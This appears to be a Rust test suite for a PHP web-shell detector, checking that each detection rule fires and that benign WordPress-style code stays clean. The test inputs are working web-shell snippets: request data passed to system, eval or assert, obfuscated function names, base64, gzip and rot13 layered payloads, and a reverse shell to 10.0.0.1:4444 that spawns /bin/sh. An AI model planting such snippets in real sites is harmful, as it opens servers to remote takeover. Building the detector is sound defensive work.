//! One written sample per way a web shell hides what it does, and the
//! benign code each rule must leave alone.

use super::*;

fn rules(src: &str) -> Vec<&'static str> {
    let mut r: Vec<&'static str> = analyze(src.as_bytes()).findings.iter().map(|f| f.rule).collect();
    r.sort();
    r.dedup();
    r
}

#[track_caller]
fn finds(src: &str, rule: &str) {
    let a = analyze(src.as_bytes());
    assert!(a.findings.iter().any(|f| f.rule == rule), "{rule} not found in {src:?}: {:?}", a.findings);
}

#[track_caller]
fn clean(src: &str) {
    let a = analyze(src.as_bytes());
    assert!(a.findings.is_empty(), "{src:?}: {:?}", a.findings);
}

#[test]
fn request_input_through_variables_reaches_commands() {
    finds("<?php $c = $_REQUEST['c']; system($c);", "php_flow_request_to_exec");
    finds("<?php $a = trim($_POST['x']); $b = \"$a 2>&1\"; echo shell_exec($b);", "php_flow_request_to_exec");
    finds("<?=`$_GET[_]`?>", "php_flow_request_to_exec");
    finds("<?php $h = getallheaders(); passthru($h['X-Cmd']);", "php_flow_request_to_exec");
    finds("<?php $x = getenv('HTTP_X_CMD'); exec($x, $o);", "php_flow_request_to_exec");
    finds("<?php function run($cmd) { return popen($cmd, 'r'); } run($_COOKIE['z']);", "php_flow_request_to_exec");
    finds("<?php foreach ($_POST as $k => $v) { $cmds[] = $v; } system($cmds[0]);", "php_flow_request_to_exec");
    finds(
        "<?php class A { function go() { $this->c = $_GET['c']; } function run() { system($this->c); } }",
        "php_flow_request_to_exec",
    );
    clean("<?php class B { function set($s) { $this->s = $s; } function run($e) { return eval(\"return ($e);\"); } } $b->set($_GET['skin']);");
    // register_globals: a file-level variable the file never assigns.
    finds("<?php if ($cmd) { $work_dir = exec('pwd'); exec($cmd, $out); }", "php_flow_request_to_exec");
    clean("<?php $cmd = 'ls -la'; exec($cmd, $out); function f($c) { system($c); }");
    clean("<?php $run = static function ($command) { passthru($command, $s); return $s; }; $f = fn($x) => exec($x);");
    clean("<?php $cmd = 'x'; $p = proc_open($cmd, $d, $pipes); exec(sprintf('kill %d', $pipes[0]));");
    let a = analyze(b"<?php\n$c = $_REQUEST['c'];\n\nsystem($c);");
    assert_eq!(a.findings[0].line, 4);
    assert!(a.findings[0].label().contains("$_REQUEST['c'] (line 2) reaches system()"), "{}", a.findings[0].label());
}

#[test]
fn request_input_reaches_code() {
    finds("<?php $p = $_POST['p']; @eval($p);", "php_flow_request_to_code");
    finds(
        "<?php $d = file_get_contents('php://input'); $d = openssl_decrypt($d, 'AES-128-ECB', $k); eval($d);",
        "php_flow_request_to_code",
    );
    finds("<?php @assert(base64_decode($_REQUEST['a']));", "php_flow_request_to_code");
    finds("<?php include $_GET['page'];", "php_flow_request_to_code");
    finds("<?php $f = create_function('', $_POST['f']); $f();", "php_flow_request_to_code");
    finds("<?php preg_replace('/.*/e', $_POST['code'], '');", "php_flow_request_to_code");
    finds("<?php $data = $_POST['d']; for ($i = 0; $i < strlen($data); $i++) { $data[$i] = $data[$i] ^ $key[$i + 1 & 15]; } eval($data);", "php_flow_request_to_code");
}

#[test]
fn function_names_from_input_or_assembled_from_pieces() {
    finds("<?php @extract($_REQUEST); @die ($ctime($atime));", "php_flow_request_function_name");
    finds("<?php $f = $_GET['f']; $f($_GET['a']);", "php_flow_request_function_name");
    finds("<?php call_user_func($_POST['fn'], $_POST['arg']);", "php_flow_request_function_name");
    finds("<?php array_map($_GET['m'], array($_GET['a']));", "php_flow_request_function_name");
    finds("<?php $f = 'as' . 'sert'; $f($x);", "php_flow_assembled_function_name");
    finds(
        "<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f('id');",
        "php_flow_assembled_function_name",
    );
    finds("<?php $f = strrev('tressa'); $f($y);", "php_flow_assembled_function_name");
    finds("<?php $f = str_rot13('flfgrz'); array_map($f, array($z));", "php_flow_assembled_function_name");
    finds("<?php (\"sys\" . \"tem\")($_GET['c']);", "php_flow_request_to_exec");
    finds("<?php $m = 'system'; $m($_POST['x']);", "php_flow_request_to_exec");
    finds("<?php array_filter(array($_POST['x']), 'system');", "php_flow_request_to_exec");
    finds("<?php usort($_GET, 'assert');", "php_flow_request_to_exec");
    finds("<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);", "php_flow_request_function_name");
    finds("<?php register_shutdown_function($_COOKIE['f'], $_COOKIE['a']);", "php_flow_request_function_name");
    finds("<?php $a = array('sy'.'stem'); $a[0]($c);", "php_flow_assembled_function_name");
    // Names made byte by byte with ^ | & ~ on strings, and bare words
    // (PHP before 8 reads an undefined constant as its name).
    let key = b"KeyKeyKeyKeyKey";
    let xored: String = b"create_function".iter().zip(key).map(|(a, b)| format!("\\x{:02x}", a ^ b)).collect();
    finds(
        &format!("<?php $k = \"{xored}\" ^ KeyKeyKeyKeyKey; $f = $k('', $p); $f();"),
        "php_flow_assembled_function_name",
    );
    let inverted: String = b"assert".iter().map(|b| format!("\\x{:02x}", !b)).collect();
    finds(&format!("<?php $f = ~\"{inverted}\"; $f($_POST[1]);"), "php_flow_assembled_function_name");
    finds(&format!("<?php $f = ~\"{inverted}\"; $f($_POST[1]);"), "php_flow_request_to_code");
    finds("<?php $function = passthru; echo $function($_POST['cmd']);", "php_flow_request_to_exec");
    // PHP's precedence: `.` before `&`, `^`, `|`; all-caps bare words.
    let (a, b) = (b"ge", b"tenv");
    let (k1, k2) = (b"AB", b"CD_E");
    let x1: String = a.iter().zip(k1).map(|(p, q)| format!("\\x{:02x}", p ^ q)).collect();
    let x2: String = b.iter().zip(k2).map(|(p, q)| format!("\\x{:02x}", p ^ q)).collect();
    let src = format!("<?php $g = \"{x1}\" . \"{x2}\" ^ AB . CD_E; $h = $g('HTTP_X_C'); eval($h);");
    finds(&src, "php_flow_request_to_code");
}

#[test]
fn decoded_payloads_are_judged_again() {
    use base64::Engine;
    let inner = "$c = $_POST['c']; system($c);";
    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
    let src = format!("<?php\n\n$x = '{b64}';\neval(base64_decode($x));");
    let a = analyze(src.as_bytes());
    let rules: Vec<_> = a.findings.iter().map(|f| f.rule).collect();
    assert!(rules.contains(&"php_flow_decoded_code"), "{a:?}");
    let inner_f = a.findings.iter().find(|f| f.rule == "php_flow_request_to_exec").expect("the inner layer's flow");
    assert_eq!(inner_f.line, 4);
    assert!(inner_f.evidence.contains("decoded at line 4"), "{}", inner_f.evidence);
    // Three layers: gzinflate(base64_decode(str_rot13(...))).
    let deflated = {
        use std::io::Write;
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b"@eval($_POST['k']);").unwrap();
        e.finish().unwrap()
    };
    let layer = base64::engine::general_purpose::STANDARD.encode(deflated);
    let rot: String = layer.bytes().map(|b| fold::call(b"str_rot13", &[&[b]]).unwrap()[0] as char).collect();
    let src = format!(
        "<?php $o = \"gzin\".\"flate(base\".\"64_de\".\"code(\"; eval(gzinflate(base64_decode(str_rot13('{rot}'))));"
    );
    assert!(rules_of(&src).contains(&"php_flow_request_to_code"), "{:?}", analyze(src.as_bytes()));
}

fn rules_of(src: &str) -> Vec<&'static str> {
    rules(src)
}

#[test]
fn tools_without_an_exec_call() {
    finds("<?php $f = $_GET['f']; readfile($f);", "php_flow_request_file_access");
    finds("<?php unlink($_POST['del']);", "php_flow_request_file_access");
    finds("<?php mysql_query($_POST['sql']);", "php_flow_request_is_sql");
    finds(
        "<?php $l = mysqli_connect('localhost', 'u', 'p'); $q = $_POST['q']; mysqli_query($l, $q);",
        "php_flow_request_is_sql",
    );
    finds("<?php $db = new mysqli($_POST['host'], $_POST['user'], $_POST['pass']);", "php_flow_request_db_login");
    finds("<?php mail($_POST['to'], $_POST['subject'], $_POST['body']);", "php_flow_request_to_mail");
    finds("<?php $fp = fsockopen($_GET['host'], $port, $e, $s, 1);", "php_flow_request_socket");
    finds(
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'images/' . $_FILES['f']['name']);",
        "php_flow_request_to_file_write",
    );
    finds("<?php file_put_contents($_POST['name'], $_POST['data']);", "php_flow_request_to_file_write");
    finds(
        "<?php $s = fsockopen('10.0.0.1', 4444); while ($c = fgets($s)) { $o = shell_exec($c); fwrite($s, $o); }",
        "php_flow_network_to_exec",
    );
    finds("<?php $sock = fsockopen('10.0.0.1', 4444); proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);", "php_flow_network_to_exec");
}

#[test]
fn benign_code_is_left_alone() {
    clean("<?php $id = intval($_GET['id']); $rows = $wpdb->get_results($wpdb->prepare('SELECT * FROM t WHERE id = %d', $id));");
    clean("<?php $cb = $this->callbacks[$hook]; call_user_func_array($cb, $args);");
    clean("<?php if (isset($_POST['submit'])) { update_option('x', sanitize_text_field($_POST['x'])); }");
    clean("<?php $file = sanitize_file_name($_FILES['f']['name']); move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $file);");
    clean("<?php $view = $this->resolve($name); include $view;");
    clean("<?php $d = file_get_contents($_FILES['f']['tmp_name']);");
    clean("<?php echo htmlspecialchars($_GET['q']); $s = \"Hello {$user['name']}\";");
    clean("<?php mail(get_option('admin_email'), 'Contact', $_POST['message']);");
    clean("<?php $resp = fsockopen($host, 80); fwrite($resp, $req); $body = fread($resp, 1024); file_put_contents($cache, $body);");
    clean("<?php $method = 'get' . ucfirst($name); return $this->$method();");
    // WordPress: dispatch by a name built around input, a query object.
    clean("<?php $a = $_POST['bulk_action']; call_user_func(array(__CLASS__, \"variation_bulk_action_$a\"), $v);");
    clean("<?php $w = $_GET['walker']; $x = new $w(); $wp_query->query($_POST);");
    clean("<?php include WP_PLUGIN_DIR . '/' . $_GET['page'];");
    // phpMyAdmin's find and replace: a pattern from the request.
    clean(
        "<?php $find = $_POST['find']; $with = $_POST['replaceWith']; $r = preg_replace('/' . $find . '/', $with, $v);",
    );
    clean("<?php $q = \"SELECT * FROM t WHERE a = '\" . $db->escape($_POST['a']) . \"'\"; $db->query($q);");
    clean("<?php system('ls ' . escapeshellarg($_GET['dir']));");
    clean("<?php $flags = E_ALL & ~E_NOTICE; $x = FOO | BAR; $cb = MY_CALLBACK; $cb($_GET['a']);");
    clean("<html><body><?xml version=\"1.0\"?> <? echo 'hi'; ?></body></html>");
}

#[test]
fn hostile_input_is_bounded() {
    // Deep nesting, unclosed brackets, huge literals, bombs: no panic, no hang.
    let deep = format!("<?php {}$x{}", "(".repeat(100_000), ")".repeat(10));
    let _ = analyze(deep.as_bytes());
    let _ = analyze(b"<?php $a = array(array(array(");
    let _ = analyze(b"<?php eval(gzinflate(base64_decode(");
    let big = format!("<?php $x = '{}'; $y = $x . $x . $x . $x;", "A".repeat(4 << 20));
    let _ = analyze(big.as_bytes());
    let chain = format!("<?php $a = 'x'; {}", "$a = $a . $a; ".repeat(40));
    let _ = analyze(chain.as_bytes());
    let zeros = {
        use std::io::Write;
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(&vec![0u8; 64 << 20]).unwrap();
        e.finish().unwrap()
    };
    use base64::Engine;
    let src =
        format!("<?php eval(gzinflate(base64_decode('{}')));", base64::engine::general_purpose::STANDARD.encode(zeros));
    let a = analyze(src.as_bytes());
    assert!(a.layers.iter().all(|l| l.len() <= fold::MAX_VALUE));
}
